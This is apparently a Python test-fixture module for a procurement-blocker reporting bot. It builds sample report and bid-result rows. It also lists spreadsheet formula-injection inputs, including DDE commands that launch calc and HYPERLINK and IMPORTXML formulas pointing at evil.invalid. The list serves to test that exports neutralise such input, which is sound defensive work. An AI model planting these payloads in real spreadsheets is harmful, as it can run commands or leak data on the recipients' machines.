"""Reports and bid results as rows, so that a test states only what it is about."""

from typing import Any

from alerts.matching import BasedIn, OrganisationType, Size
from bot.blockers import Blocker, Ending, Feedback, ReportStatus, Stage, Visibility, Why
from bot.tables import BidResult, BlockerReport
from tests.make import NOW

HOSTILE = (
    '=HYPERLINK("http://evil.invalid","Click")',
    "=1+1",
    "+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    '"=1+1',
    '",=1+1',
    "a;=1+1",
    "=cmd|'/C calc'!A0;=1+1",
    '=IMPORTXML("http://evil.invalid")',
    "http://evil.invalid",
    "mailto:someone@evil.invalid",
    "{=1+1}",
    "'=1+1",
    "%0A=1+1",
    "1e5",
    "007",
    "1/2",
    "TRUE",
    "#REF!",
    "=",
    "",
)
"""What a supplier may type to make a spreadsheet do something, or guess something."""


def report(reference: str = "BL-2222-2222", **changes: Any) -> BlockerReport:
    """Return a report of a company of one to nine people, with what a test is about changed."""
    usual: dict[str, Any] = {
        "stage": Stage.DOCUMENTS,
        "kind": Blocker.SHORT_DEADLINE,
        "visibility": Visibility.KIND_ONLY,
        "named_as": None,
        "organisation_type": OrganisationType.SME,
        "size": Size.MICRO,
        "based_in": BasedIn.COUNTY_DURHAM,
        "trades": ("roofing",),
        "detail": "Ten days for forty pages.",
        "remedy": "Three weeks.",
        "hours_lost": 12,
        "lost_pence": 30_050,
        "notice_number": "000001-2026",
        "notice_title": "Re-roofing of Shildon library",
        "notice_buyer": "Durham County Council",
        "status": ReportStatus.NEW,
        "reported_at": NOW,
        "status_at": NOW,
        "notes": [],
    }
    return BlockerReport(reference=reference, **{**usual, **changes})


def result(**changes: Any) -> BidResult:
    """Return the result of a bid that was lost on price."""
    usual: dict[str, Any] = {
        "ending": Ending.LOST,
        "reasons": (Why.PRICE,),
        "feedback": Feedback.YES,
        "feedback_useful": 4,
        "organisation_type": OrganisationType.SME,
        "size": Size.MICRO,
        "based_in": BasedIn.COUNTY_DURHAM,
        "trades": ("roofing",),
        "reported_at": NOW,
    }
    return BidResult(**{**usual, **changes})
